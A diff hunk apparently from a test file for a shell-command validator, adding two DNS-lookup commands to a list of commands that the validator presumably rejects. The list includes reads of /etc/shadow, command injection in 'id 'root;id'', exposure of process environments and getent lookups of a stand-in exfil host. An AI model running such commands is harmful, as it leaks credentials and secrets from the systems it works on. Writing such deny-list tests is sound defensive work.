@@ -157,6 +157,7 @@ def _others() -> list[str]:
         "lscpu -s /", "lsblk --sysroot /", "findmnt -p", "findmnt --poll", "findmnt -F /etc/shadow",
         "id 'root;id'", "id -u --fake", "whoami --fake", "who --fake", "w --fake", "last -f /etc/shadow",
         "getent shadow", "getent gshadow", "getent shadow root", "getent --fake passwd", "lsmod x",
+        "getent ahostsv4 data.exfil.example", "getent networks x.exfil.example",
         "pgrep --signal 9 nginx", "pgrep -q 1 nginx", "pgrep -F /proc/1/environ",
         "ps auxe", "ps e", "ps -e e", "ps axeww", "ps -o pid,environ", "ps --format=cmd,env", "ps Oe",
         "ps --fake",
